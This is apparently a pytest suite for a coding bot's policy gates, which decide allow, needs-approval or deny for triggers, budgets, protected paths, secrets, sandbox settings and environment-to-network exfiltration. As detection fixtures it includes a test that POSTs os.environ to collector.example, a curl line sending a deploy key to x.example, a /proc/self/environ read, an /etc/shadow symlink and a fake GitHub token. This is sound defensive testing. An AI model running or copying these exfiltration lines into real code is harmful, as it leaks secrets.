"""Every gate: an allow, a needs-approval and a deny case, on real git diffs."""

from __future__ import annotations

import pytest

from bot.agent.limits import agent_limits
from bot.policy.decisions import GateReport, TriggerRequest, Usage
from bot.policy.diff import parse_diff
from bot.policy.env_network import env_network_gate
from bot.policy.gates import (
    approver_gate,
    autonomy_for,
    autonomy_gate,
    budget_gate,
    diff_size_gate,
    evaluate_final,
    evaluate_start,
    paths_gate,
    sandbox_gate,
    secrets_gate,
    trigger_gate,
)
from bot.policy.model import Policy
from bot.sandbox.config import SandboxConfig, sandbox_config
from bot.solve.verify import verify_config

FAKE_TOKEN = "ghp_" + "A1b2C3d4E5" * 4


def with_(**sections: dict[str, object]) -> Policy:
    data = Policy().model_dump()
    for name, values in sections.items():
        data[name].update(values)
    return Policy.model_validate(data)


def files_of(make_repo, changes: dict[str, str | None], base: dict[str, str] | None = None):
    repo = make_repo(base or {"README.md": "hello\n"})
    for rel, content in changes.items():
        if content is None:
            (repo.path / rel).unlink()
        else:
            repo.write(rel, content)
    return parse_diff(repo.diff())


def request(**fields: object) -> TriggerRequest:
    return TriggerRequest.model_validate(
        {"sender": "alice", "permission": "write", "label": "patchbot"} | fields
    )


def nothing_before(path: str) -> str:
    return ""


# trigger


def test_trigger_allows_a_writer_with_the_label_or_a_start_command(policy):
    assert trigger_gate(policy, request()).verdict == "allow"
    assert trigger_gate(policy, request(label="PatchBot")).verdict == "allow"
    assert trigger_gate(policy, request(label=None, command="fix")).verdict == "allow"


@pytest.mark.parametrize(
    ("fields", "why"),
    [
        ({"permission": "triage"}, "needs `write`"),
        ({"permission": "none"}, "needs `write`"),
        ({"is_bot": True, "permission": "admin"}, "bot"),
        ({"label": "bug"}, "label `bug`"),
        ({"label": None, "command": "approve"}, "command `approve`"),
        ({"label": None}, "neither"),
    ],
)
def test_trigger_denies(policy, fields, why):
    decision = trigger_gate(policy, request(**fields))
    assert decision.verdict == "deny" and why in decision.reason


def test_trigger_follows_the_policy(policy):
    maintainers = with_(trigger={"min_permission": "maintain", "exclude_bots": False})
    assert trigger_gate(maintainers, request(permission="write")).verdict == "deny"
    assert trigger_gate(maintainers, request(permission="admin", is_bot=True)).verdict == "allow"


def test_approver_must_have_the_role_and_not_be_the_requester(policy):
    def approve(sender: str, permission: str, p: Policy = policy) -> str:
        return approver_gate(p, request(sender=sender, permission=permission), "alice").verdict

    assert approve("bob", "write") == "allow"
    assert approve("bob", "read") == "deny"
    assert approve("ALICE", "admin") == "deny"
    assert approve("alice", "admin", with_(approval={"allow_requester": True})) == "allow"


# autonomy


def test_autonomy_takes_the_most_restrictive_match_over_all_changed_files(make_repo):
    policy = with_(autonomy={"default": "pr", "paths": {"src/auth/**": "comment", "docs/**": "pr"}})
    docs = files_of(make_repo, {"docs/guide.md": "x\n"})
    assert autonomy_for(policy, docs) == ("pr", "the policy's default")
    mixed = files_of(make_repo, {"docs/guide.md": "x\n", "src/auth/login.py": "y\n"})
    level, why = autonomy_for(policy, mixed)
    assert level == "comment" and "src/auth/login.py" in why
    decision = autonomy_gate(policy, mixed)
    assert decision.verdict == "allow" and "comment" in decision.reason


def test_autonomy_cannot_rise_above_the_default_or_past_draft(make_repo):
    files = files_of(make_repo, {"docs/guide.md": "x\n"})
    capped = with_(autonomy={"default": "draft_pr", "paths": {"docs/**": "pr"}})
    assert autonomy_for(capped, files)[0] == "draft_pr"
    drafts = Policy(draft=True)
    assert autonomy_for(drafts, files) == ("draft_pr", "the policy asks for drafts")


def test_a_rename_out_of_a_protected_folder_counts_the_old_path(make_repo):
    policy = with_(autonomy={"paths": {"src/auth/**": "comment"}})
    body = "".join(f"line {n}\n" for n in range(20))
    repo = make_repo({"src/auth/keys.py": body})
    (repo.path / "src/auth/keys.py").rename(repo.path / "keys.py")
    assert autonomy_for(policy, parse_diff(repo.diff()))[0] == "comment"


# budgets


def test_budgets_allow_a_run_within_them(policy, usage):
    decision = budget_gate(policy, usage)
    assert decision.verdict == "allow" and "5/40 steps" in decision.reason


def test_a_run_over_a_budget_needs_approval_and_says_which(policy):
    decision = budget_gate(policy, Usage(steps=41, cost_usd=2.5, wall_time=10, attempts=1))
    assert decision.verdict == "needs_approval"
    assert "steps 41 > 40" in decision.reason and "cost 2.5 > 2" in decision.reason
    assert "wall time" not in decision.reason


def test_daily_caps_deny_a_start_with_no_room_left(policy):
    full = Usage(repository_spent_today_usd=20.0)
    decision = budget_gate(policy, full, starting=True)
    assert decision.verdict == "deny" and "daily_cost_repository_usd" in decision.reason
    room = Usage(repository_spent_today_usd=19.0, installation_spent_today_usd=50.0)
    assert budget_gate(policy, room, starting=True).verdict == "allow"
    over = Usage(cost_usd=1.5, repository_spent_today_usd=19.0)
    assert "repository daily cost" in budget_gate(policy, over).reason
    no_caps = with_(budgets={"daily_cost_installation_usd": None})
    huge = Usage(installation_spent_today_usd=10**6)
    assert budget_gate(no_caps, huge, starting=True).verdict == "allow"


def test_an_unknown_cost_is_said_unknown_and_other_budgets_still_hold(policy):
    unknown = Usage(steps=5, cost_usd=None, repository_spent_today_usd=19.9)
    decision = budget_gate(policy, unknown)
    assert decision.verdict == "allow" and "cost unknown (budget $2.00)" in decision.reason
    assert "$0.00" not in decision.reason
    over = budget_gate(policy, Usage(steps=41, cost_usd=None))
    assert over.verdict == "needs_approval" and over.reason == "over budget: steps 41 > 40"


def test_agent_limits_leave_no_more_than_todays_room(policy):
    limits = agent_limits(policy, Usage(repository_spent_today_usd=19.25))
    assert (limits.max_steps, limits.cost_limit, limits.time_limit) == (40, 0.75, 1800)
    assert agent_limits(policy).cost_limit == 2.0
    assert agent_limits(policy, Usage(repository_spent_today_usd=25)).cost_limit > 0
    assert verify_config(with_(budgets={"attempts": 1})).max_attempts == 1


# paths


def test_paths_allow_ordinary_files(make_repo, policy):
    files = files_of(make_repo, {"src/app.py": "x = 1\n", "README.md": "hi\n"})
    assert paths_gate(policy, files).verdict == "allow"


@pytest.mark.parametrize(
    "path",
    [
        ".github/workflows/ci.yml",
        ".gitlab-ci.yml",
        "Cargo.lock",
        "sub/poetry.lock",
        "package-lock.json",
        "go.sum",
        ".github/CODEOWNERS",
        ".env.production",
        "deploy/server.PEM",
        "config/client_secret.json",
        "aws_credentials",
    ],
)
def test_protected_files_need_approval(make_repo, policy, path):
    decision = paths_gate(policy, files_of(make_repo, {path: "x\n"}))
    assert decision.verdict == "needs_approval" and path in decision.reason


def test_deleting_or_renaming_a_protected_file_needs_approval_too(make_repo, policy):
    base = {".github/workflows/ci.yml": "on: push\n" * 10, "uv.lock": "x\n"}
    repo = make_repo(base)
    (repo.path / ".github/workflows/ci.yml").rename(repo.path / "ci.yml")
    (repo.path / "uv.lock").unlink()
    decision = paths_gate(policy, parse_diff(repo.diff()))
    assert decision.verdict == "needs_approval"
    assert ".github/workflows/ci.yml" in decision.reason and "uv.lock" in decision.reason


def test_denied_paths_win_over_approval(make_repo, policy):
    files = files_of(make_repo, {".github/patchbot.yml": "draft: false\n", ".env": "A=1\n"})
    decision = paths_gate(policy, files)
    assert decision.verdict == "deny" and ".github/patchbot.yml" in decision.reason


def test_a_new_symbolic_link_needs_approval(make_repo, policy):
    import os

    repo = make_repo({"README.md": "x\n"})
    os.symlink("/etc/shadow", repo.path / "notes.txt")
    decision = paths_gate(policy, parse_diff(repo.diff()))
    assert decision.verdict == "needs_approval" and "symbolic link" in decision.reason


# diff size


def test_diff_size_within_limits_is_allowed(make_repo, policy):
    decision = diff_size_gate(policy, files_of(make_repo, {"a.py": "x\n" * 10}))
    assert decision.verdict == "allow" and "1 files, 10 changed lines" in decision.reason


def test_a_big_diff_needs_approval_or_is_denied(make_repo):
    files = files_of(make_repo, {f"m{n}.py": "x\n" * 5 for n in range(4)})
    small = with_(diff={"max_files": 3})
    decision = diff_size_gate(small, files)
    assert decision.verdict == "needs_approval" and "more than 3 files" in decision.reason
    strict = with_(diff={"max_changed_lines": 19, "over_limit": "deny"})
    decision = diff_size_gate(strict, files)
    assert decision.verdict == "deny" and "more than 19 changed lines" in decision.reason


# secrets


def test_secrets_allow_a_clean_diff(make_repo, policy):
    files = files_of(make_repo, {"a.py": "import os\nTOKEN = os.environ['GITHUB_TOKEN']\n"})
    assert secrets_gate(policy, files).verdict == "allow"


def test_a_token_on_an_added_line_denies_without_printing_it(make_repo, policy):
    files = files_of(make_repo, {"a.py": f"x = 1\nTOKEN = '{FAKE_TOKEN}'\n"})
    decision = secrets_gate(policy, files)
    assert decision.verdict == "deny"
    assert "a.py line 2: GitHub token" in decision.reason
    assert FAKE_TOKEN[4:] not in decision.model_dump_json()


def test_removing_a_token_needs_approval(make_repo, policy):
    files = files_of(make_repo, {"a.py": "x = 1\n"}, base={"a.py": f"x = 1\nT = '{FAKE_TOKEN}'\n"})
    decision = secrets_gate(policy, files)
    assert decision.verdict == "needs_approval" and "rotate" in decision.reason


def test_a_binary_file_needs_approval_because_it_cannot_be_scanned(make_repo, policy):
    repo = make_repo({"README.md": "x\n", "old.bin": b"\x00\x01" * 50})
    repo.write("logo.png", b"\x89PNG\r\n\x1a\n\x00\x00" + bytes(range(256)))
    (repo.path / "old.bin").unlink()
    decision = secrets_gate(policy, parse_diff(repo.diff()))
    assert decision.verdict == "needs_approval" and "`logo.png`" in decision.reason
    assert "old.bin" not in decision.reason


def test_secret_scanning_off_in_the_server_policy_allows(make_repo):
    files = files_of(make_repo, {"a.py": f"TOKEN = '{FAKE_TOKEN}'\n"})
    assert secrets_gate(with_(secrets={"scan": False}), files).verdict == "allow"


# sandbox


# env_network


EXFILTRATING_TEST = """import json, os, urllib.request


def test_config_loads():
    body = json.dumps(dict(os.environ)).encode()
    urllib.request.urlopen("https://collector.example/", data=body)
"""


def test_a_new_test_that_sends_the_environment_away_needs_approval(make_repo, policy):
    files = files_of(make_repo, {"tests/test_config.py": EXFILTRATING_TEST})
    decision = env_network_gate(policy, files, nothing_before)
    assert decision.verdict == "needs_approval"
    assert "`tests/test_config.py` line 5" in decision.reason  # reads the environment
    assert "`tests/test_config.py` line 1" in decision.reason  # imports an HTTP client
    assert "secrets" in decision.reason


@pytest.mark.parametrize(
    ("reads", "sends"),
    [
        ("token = os.getenv('CI_TOKEN')", "requests.post(URL, data=token)"),
        ("const t = process.env.NPM_TOKEN;", "fetch(url, {body: t});"),
        ("run: echo ${{ secrets.DEPLOY_KEY }} > key", "run: curl -d @key https://x.example"),
        ("data = open('/proc/self/environ').read()", "s = socket.create_connection(addr)"),
        ('token := os.Getenv("TOKEN")', "resp, _ := http.Post(url, ctype, body)"),
    ],
)
def test_environment_and_network_in_other_languages_and_files_need_approval(
    make_repo, policy, reads, sends
):
    files = files_of(make_repo, {"src/a.txt": reads + "\n", "src/b.txt": sends + "\n"})
    assert env_network_gate(policy, files, nothing_before).verdict == "needs_approval"


def test_adding_a_connection_to_a_file_that_reads_the_environment_needs_approval(make_repo, policy):
    """The file already read a secret; the change only adds the call that sends it."""
    base = {"tests/test_api.py": "import os\nTOKEN = os.environ['API_TOKEN']\n"}
    files = files_of(
        make_repo,
        {"tests/test_api.py": base["tests/test_api.py"] + "requests.get(URL, params=TOKEN)\n"},
        base,
    )
    assert env_network_gate(policy, files, nothing_before).verdict == "allow"
    decision = env_network_gate(policy, files, lambda path: base.get(path, ""))
    assert decision.verdict == "needs_approval"
    assert "`tests/test_api.py` (already)" in decision.reason


def test_code_that_only_reads_the_environment_or_only_talks_to_the_network_is_allowed(
    make_repo, policy
):
    reads = files_of(make_repo, {"app/cfg.py": "DEBUG = os.environ.get('DEBUG') == '1'\n"})
    sends = files_of(make_repo, {"app/net.py": "import urllib.parse\nurlopen(build_url())\n"})
    for files in (reads, sends):
        assert env_network_gate(policy, files, nothing_before).verdict == "allow"


def test_final_evaluation_holds_a_new_test_that_sends_the_environment_away(
    make_repo, policy, usage
):
    repo = make_repo({"README.md": "hello\n"})
    repo.write("tests/test_config.py", EXFILTRATING_TEST)
    report = evaluate_final(policy, repo.diff(), usage, sandbox_config(policy))
    assert report.verdict == "needs_approval"
    assert [d.gate for d in report.holding()] == ["env_network"]


def test_the_env_network_hold_can_be_turned_off_by_the_server_only(make_repo):
    files = files_of(make_repo, {"tests/test_config.py": EXFILTRATING_TEST})
    off = with_(secrets={"hold_env_network": False})
    assert env_network_gate(off, files, nothing_before).verdict == "allow"


def test_sandbox_as_the_policy_says_is_allowed(policy):
    decision = sandbox_gate(policy, sandbox_config(policy))
    assert decision.verdict == "allow" and "set-up with network" in decision.reason


def test_a_looser_sandbox_is_denied():
    policy = with_(sandbox={"setup_network": False, "memory_mb": 1024})
    used = SandboxConfig(setup_network=True, memory_mb=4096)
    decision = sandbox_gate(policy, used)
    assert decision.verdict == "deny"
    assert "network" in decision.reason and "memory_mb 4096 > 1024" in decision.reason
    assert sandbox_gate(policy, sandbox_config(policy).model_copy(update={"cpus": 1})).verdict == (
        "allow"
    )


def test_sandbox_config_carries_the_repository_commands():
    policy = Policy(test_command="make test", setup_command="make env")
    config = sandbox_config(policy)
    assert (config.test_command, config.setup_command) == ("make test", "make env")


# integrity


def test_held_integrity_findings_wait_for_a_human_unless_the_policy_only_shows_them():
    from bot.policy.gates import integrity_gate
    from bot.solve.finding import Finding
    from bot.solve.verify import Verification

    bent = Finding(kind="skip", path="tests/test_a.py", line=3, what="adds a skip", held=True)
    shown = Finding(kind="expectation", path="tests/test_b.py", line=9, what="x", held=False)
    verification = Verification(
        accepted=True, reason="accepted", changes=[], baseline_summary="", candidate_summary=""
    )
    assert integrity_gate(Policy(), verification).verdict == "allow"
    verification.findings = [shown]
    assert integrity_gate(Policy(), verification).verdict == "allow"
    verification.findings = [shown, bent]
    held = integrity_gate(Policy(), verification)
    assert held.verdict == "needs_approval"
    assert held.reason == "tests/test_a.py:3: adds a skip"
    relaxed = Policy.model_validate({"verification": {"hold_integrity": False}})
    assert integrity_gate(relaxed, verification).verdict == "allow"


# all together


def test_final_evaluation_is_the_strictest_decision(make_repo, policy, usage):
    repo = make_repo({"src/app.py": "x = 1\n"})
    repo.write("src/app.py", "x = 2\n")
    clean = evaluate_final(policy, repo.diff(), usage, sandbox_config(policy))
    assert [d.gate for d in clean.decisions] == [
        "autonomy",
        "budgets",
        "paths",
        "diff_size",
        "secrets",
        "env_network",
        "sandbox",
        "integrity",
    ]
    assert clean.verdict == "allow" and clean.holding() == [] and clean.autonomy == "pr"

    repo.write(".github/workflows/ci.yml", "on: push\n")
    held = evaluate_final(policy, repo.diff(), usage, sandbox_config(policy))
    assert held.verdict == "needs_approval"
    assert [d.gate for d in held.holding()] == ["paths"]

    repo.write("src/app.py", f"x = '{FAKE_TOKEN}'\n")
    denied = evaluate_final(policy, repo.diff(), usage, sandbox_config(policy))
    assert denied.verdict == "deny"
    assert {d.gate: d.verdict for d in denied.holding()} == {
        "paths": "needs_approval",
        "secrets": "deny",
    }
    assert FAKE_TOKEN[4:] not in denied.markdown()
    assert FAKE_TOKEN[4:] not in str(denied.trace_fields())
    assert "| secrets | ⛔ deny |" in denied.markdown()


def test_start_evaluation_checks_the_trigger_and_todays_budget(policy):
    assert evaluate_start(policy, request(), Usage()).verdict == "allow"
    broke = evaluate_start(policy, request(), Usage(installation_spent_today_usd=100))
    assert [d.gate for d in broke.holding()] == ["budgets"]
    assert evaluate_start(policy, request(permission="read"), Usage()).verdict == "deny"


def test_an_empty_report_allows():
    assert GateReport(decisions=[]).verdict == "allow"
